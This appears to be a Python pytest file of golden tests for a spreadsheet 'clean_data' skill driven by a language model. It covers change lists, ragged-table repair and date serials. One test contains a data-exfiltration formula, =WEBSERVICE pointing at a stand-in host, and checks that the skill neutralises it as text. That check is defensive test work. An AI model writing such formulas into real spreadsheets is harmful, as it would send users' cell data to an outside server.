"""Golden tests of clean_data: a rectangular cleaned table and the exact list of changes."""

import json

import pytest

from backend.skills.sdk import FakeModel, ModelOutputError, assert_document_is_data, load_skill, skill_folder

SKILL = load_skill(skill_folder(__file__))
VALUES = [["Name", "City"], ["  ann lee", "paris"], ["Bob Stone", "PARIS "]]
DATA = {"range": {"address": "Sheet1!A1:B3", "values": VALUES}}
CLEAN = [["Name", "City"], ["Ann Lee", "Paris"], ["Bob Stone", "Paris"]]


def test_changes_are_the_real_cell_differences_with_the_models_reasons():
    """The diff is computed; the model's reasons are attached; unchanged cells are not listed."""
    changes = [{"row": 1, "column": 0, "reason": "trim and capitalise"}, {"row": 2, "column": 1, "reason": "case"}]
    model = FakeModel(json.dumps({"table": CLEAN, "changes": changes}))
    output = SKILL.invoke(DATA, model)
    assert_document_is_data(model.requests[0], json.dumps(VALUES[1]))
    assert output["table"] == CLEAN
    assert output["changes"] == [
        {"row": 1, "column": 0, "before": "  ann lee", "after": "Ann Lee", "reason": "trim and capitalise"},
        {"row": 1, "column": 1, "before": "paris", "after": "Paris", "reason": ""},
        {"row": 2, "column": 1, "before": "PARIS ", "after": "Paris", "reason": "case"},
    ]


def test_formulas_invented_by_the_model_are_stored_as_text():
    """=WEBSERVICE(...) written back would be a formula that sends data out: it is neutralised."""
    table = [["Name", "City"], ['=WEBSERVICE("https://x.example/?"&A2)', "Paris"], ["Bob Stone", "Paris"]]
    output = SKILL.invoke(DATA, FakeModel(json.dumps({"table": table, "changes": []})))
    assert output["table"][1][0] == '\'=WEBSERVICE("https://x.example/?"&A2)'


def test_ragged_table_is_repaired_once_then_fails_cleanly():
    """A table whose rows differ in length is invalid."""
    ragged = json.dumps({"table": [["Name", "City"], ["Ann"]], "changes": []})
    model = FakeModel(ragged, ragged)
    with pytest.raises(ModelOutputError) as caught:
        SKILL.invoke(DATA, model)
    assert "same, non-zero number of cells" in caught.value.details["problem"]
    assert len(model.requests) == 2


DATED_VALUES = [
    ["Day", "Client", "Time"],
    [45292, " acme", 45292.3958333333],
    [45293, "Birch", 45293.5],
    ["", "", ""],
]
DATED = {
    "range": {
        "address": "Sheet1!A1:C4",
        "values": DATED_VALUES,
        "number_formats": [[], ["yyyy-mm-dd", None, "yyyy-mm-dd hh:mm"], ["yyyy-mm-dd", None, "yyyy-mm-dd hh:mm"]],
    }
}
DATED_SHOWN = [
    ["Day", "Client", "Time"],
    ["2024-01-01", " acme", "2024-01-01T09:30"],
    ["2024-01-02", "Birch", "2024-01-02T12:00"],
]


def test_dates_are_read_as_iso_text_and_written_back_as_the_same_serials():
    """The model reads 2024-01-01, not 45292; dates it leaves alone are not changes and go back as their exact
    serials (the cells keep their date formats), so only the real cleaning is written."""
    table = [[*row] for row in DATED_SHOWN] + [["", "", ""]]
    table[1][1] = "Acme"
    model = FakeModel(json.dumps({"table": table, "changes": [{"row": 1, "column": 1, "reason": "trim"}]}))
    output = SKILL.invoke(DATED, model)
    assert_document_is_data(model.requests[0], '["2024-01-01", " acme", "2024-01-01T09:30"]')
    assert "45292" not in model.requests[0].messages[-1].content
    assert output["table"][1] == [45292, "Acme", 45292.3958333333]
    assert output["table"][2] == [45293, "Birch", 45293.5]
    assert output["changes"] == [{"row": 1, "column": 1, "before": " acme", "after": "Acme", "reason": "trim"}]


def test_a_date_the_model_corrects_goes_back_as_its_serial_and_the_change_shows_dates():
    """A changed date cell is written as the new serial (Excel keeps the cell's date format); the change names the
    dates as the user knows them; ISO text in a text cell is written as Excel reads typed dates."""
    table = [[*row] for row in DATED_SHOWN] + [["", "", ""]]
    table[2][0], table[2][2] = "2024-01-03", "2024-01-02T13:15"
    table[3][1] = "2024-02-01T08:00"  # a text cell: Excel turns typed "2024-02-01 08:00" into a date
    output = SKILL.invoke(DATED, FakeModel(json.dumps({"table": table, "changes": []})))
    assert output["table"][2] == [45294, "Birch", pytest.approx(45293 + 13.25 / 24)]
    assert output["table"][3] == ["", "2024-02-01 08:00", ""]
    assert output["changes"][:2] == [
        {"row": 2, "column": 0, "before": "2024-01-02", "after": "2024-01-03", "reason": ""},
        {"row": 2, "column": 2, "before": "2024-01-02T12:00", "after": "2024-01-02T13:15", "reason": ""},
    ]


def test_a_reshaped_table_keeps_dates_as_text_excel_reads_as_dates():
    """Rows removed: positions no longer match the formats, so dates stay ISO text, date-times in Excel's typed form."""
    table = [DATED_SHOWN[0], DATED_SHOWN[1]]
    output = SKILL.invoke(DATED, FakeModel(json.dumps({"table": table, "changes": []})))
    assert output["table"][1] == ["2024-01-01", " acme", "2024-01-01 09:30"]


def test_a_1904_workbook_reads_and_writes_dates_in_its_own_date_system():
    """In a 1904 workbook 43830 is 2024-01-01: the model reads that date, and a corrected date goes back as the 1904
    serial (the 1900 one would put the cell 4 years and a day later)."""
    values_1904 = [[c - 1462 if isinstance(c, int | float) else c for c in row] for row in DATED_VALUES]
    dated = {"range": {**DATED["range"], "values": values_1904, "date_system": 1904}}
    table = [[*row] for row in DATED_SHOWN] + [["", "", ""]]
    table[2][0] = "2024-01-03"
    model = FakeModel(json.dumps({"table": table, "changes": []}))
    output = SKILL.invoke(dated, model)
    assert_document_is_data(model.requests[0], '["2024-01-01", " acme", "2024-01-01T09:30"]')
    assert output["table"][1] == [43830, " acme", 45292.3958333333 - 1462]
    assert output["table"][2][0] == 43832
    assert output["changes"] == [{"row": 2, "column": 0, "before": "2024-01-02", "after": "2024-01-03", "reason": ""}]
